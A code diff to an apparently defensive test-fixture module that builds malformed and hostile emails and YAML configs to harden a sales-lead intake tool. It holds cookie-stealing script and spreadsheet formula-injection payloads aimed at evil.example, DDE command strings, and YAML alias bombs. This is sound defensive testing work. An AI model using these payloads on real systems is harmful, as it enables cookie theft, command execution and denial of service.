@@ -9,7 +9,9 @@ from __future__ import annotations
 import base64
 import random
 from collections.abc import Iterator
+from pathlib import Path
 
+SHIPPED = (Path(__file__).resolve().parents[2] / "config.yaml").read_text(encoding="utf-8")
 CANARY = "resilience-canary-3f9a"  # a file name that must never appear on disk
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A2,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", '=IMPORTXML("http://evil.example","//a")')
@@ -19,11 +21,11 @@ SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"
 
 
 def _msg(name: str, headers: str, body: bytes | str, sender: str = "Mallory Tester <mallory@hostile.example>",
-         subject: str | None = None) -> tuple[str, bytes]:
+         subject: str | None = None, date: str = "Tue, 01 Dec 2026 10:00:00 +0000",
+         message_id: str = "") -> tuple[str, bytes]:
     subject = f"[{name}] hostile case" if subject is None else subject
     head = (f"From: {sender}\r\nTo: sales@acme-pumps.example\r\nSubject: {subject}\r\n"
-            f"Date: Tue, 01 Dec 2026 10:00:00 +0000\r\nMessage-ID: <{name}@hostile.example>\r\n"
-            f"{headers}")
+            f"Date: {date}\r\nMessage-ID: {message_id or f'<{name}@hostile.example>'}\r\n{headers}")
     data = body.encode("utf-8") if isinstance(body, str) else body
     return name, head.encode("utf-8", "surrogateescape") + b"\r\n" + data
 
@@ -39,7 +41,8 @@ def _nested(depth: int) -> str:
 
 
 def broken_mail() -> list[tuple[str, bytes]]:
-    """Malformed, oddly encoded, oversized-but-not-huge and hostile mail (the 25 MB case is big_attachment())."""
+    """Malformed, oddly encoded, oversized-but-not-huge and hostile mail (the 25 MB case is big_attachment(), the
+    50 MB one huge_line())."""
     rng = random.Random(7)
     binary = bytes(rng.randrange(256) for _ in range(20_000))
     deep_head, deep_body = _nested(300).split("\r\n\r\n", 1)
@@ -91,6 +94,14 @@ def broken_mail() -> list[tuple[str, bytes]]:
              "<a href=\"javascript:alert(2)\">details</a><iframe src=\"https://evil.example\"></iframe>"
              "<style>p{{background:url(https://evil.example/t.gif)}}</style></body></html>"),
         _msg("html-in-subject", "", "A quote please.", subject=f"Quote {SCRIPT} <b onmouseover=alert(3)>now</b>"),
+        _msg("date-9999", "", "Please quote 2 pumps.", date="Fri, 31 Dec 9999 23:59:59 -1200"),
+        _msg("date-year-one", "", "Please quote 3 pumps.", date="Mon, 01 Jan 0001 00:00:00 +2359"),
+        _msg("reply-to-our-mailbox", "Reply-To: Sales Desk <SALES@Acme-Pumps.Example>\r\n",
+             "Hello, please quote 5 pumps for our plant.", sender="Carl Customer <carl@customer-plant.example>"),
+        _msg("reply-to-encoded-colleague", "Reply-To: =?utf-8?q?Bob_Nguyen?= <Bob@ACME-PUMPS.example>\r\n",
+             "Hello, please quote 6 pumps for our plant.", sender="Dora Customer <dora@customer-mill.example>"),
+        _msg("reply-to-encoded-address", "Reply-To: =?utf-8?q?sales=40acme-pumps=2Eexample?=\r\n",
+             "Hello, please quote 7 pumps for our plant.", sender="Emil Customer <emil@customer-farm.example>"),
     ]
     for i, formula in enumerate(FORMULAS):
         cases.append(_msg(f"formula-{i}", "", f"{formula}\r\nPlease send a quote for pumps.", subject=formula,
@@ -100,6 +111,21 @@ def broken_mail() -> list[tuple[str, bytes]]:
                           subject=f"Quote request {mention} urgent",
                           sender=f"\"{mention}\" <mention{i}@hostile.example>"))
     return cases
+
+
+DUPLICATE_ID = "<reused-id@mailer.example>"
+
+
+def duplicate_message_id() -> list[tuple[str, bytes]]:
+    """Two different leads from two senders that carry the same Message-ID (broken mailers, resent forms)."""
+    return [
+        _msg("duplicate-id-first", "", "Hello, please quote 4 borehole pumps for our farm. Regards, Ann",
+             sender="Ann First <ann@first-farm.example>", subject="Quote for 4 borehole pumps",
+             message_id=DUPLICATE_ID),
+        _msg("duplicate-id-second", "", "Good day, we need a price for 12 stainless valves. Bob",
+             sender="Bob Second <bob@second-dairy.example>", subject="Price request: 12 valves",
+             message_id=DUPLICATE_ID),
+    ]
 
 
 def big_attachment(megabytes: int = 25) -> bytes:
@@ -116,6 +142,48 @@ def big_attachment(megabytes: int = 25) -> bytes:
     return head + body + b"\r\n--big--\r\n"
 
 
+def huge_line(megabytes: int = 50) -> bytes:
+    """A lead whose plain-text body is one line of `megabytes` MB (not base64: nothing to elide cheaply)."""
+    head = (b"From: Long Liner <long@hostile.example>\r\nTo: sales@acme-pumps.example\r\n"
+            b"Subject: Our full requirements list\r\nDate: Tue, 01 Dec 2026 10:00:00 +0000\r\n"
+            b"Message-ID: <huge-line@hostile.example>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
+            b"Please quote pumps: ")
+    return head + b"pump " * (megabytes * 1024 * 1024 // 5) + b"\r\n"
+
+
 def _chunks(chunk: bytes, n: int) -> Iterator[bytes]:
     for _ in range(n):
         yield chunk
+
+
+def billion_laughs(levels: int = 9) -> str:
+    """Anchors that each repeat the one before nine times: 9**levels strings once expanded."""
+    lines = ['b0: &b0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
+    lines += [f"b{i}: &b{i} [{', '.join([f'*b{i - 1}'] * 9)}]" for i in range(1, levels)]
+    return "\n".join(lines) + "\n"
+
+
+def with_value(path: str, value: str, prefix: str = "") -> str:
+    """The shipped config with the value at `path` ("company.name") replaced by raw YAML text."""
+    section, key = path.split(".")
+    start = SHIPPED.index(f"\n{section}:")
+    line_start = SHIPPED.index(f"\n  {key}:", start) + 1
+    line_end = SHIPPED.index("\n", line_start)
+    return prefix + SHIPPED[:line_start] + f"  {key}: {value}" + SHIPPED[line_end:]
+
+
+def config_bombs() -> dict[str, tuple[str, str]]:
+    """Configs that expand to gigabytes or nest a thousand levels deep: (YAML text, the path the error names)."""
+    return {
+        "alias bomb in company.name": (with_value("company.name", "*b8", billion_laughs()), "company.name: expands"),
+        "alias bomb in prefilter.block_senders": (
+            with_value("prefilter.block_senders", "*b8", billion_laughs()), "prefilter.block_senders: expands"),
+        "a long string repeated by aliases": (
+            "s: &s " + "x" * 500_000 + "\n" + with_value("company.name", "[" + ", ".join(["*s"] * 200) + "]"),
+            "company.name: expands"),
+        "an alias that contains itself": (with_value("company.domains", "&loop [*loop]"), "company.domains: expands"),
+        "1,000 levels of nesting": (with_value("company.name", "[" * 1000 + "]" * 1000),
+                                    "company.name[0][0]"),
+        "1,000 levels of mappings": (with_value("company.name", "{a: " * 1000 + "1" + "}" * 1000),
+                                     "company.name.a.a.a"),
+    }
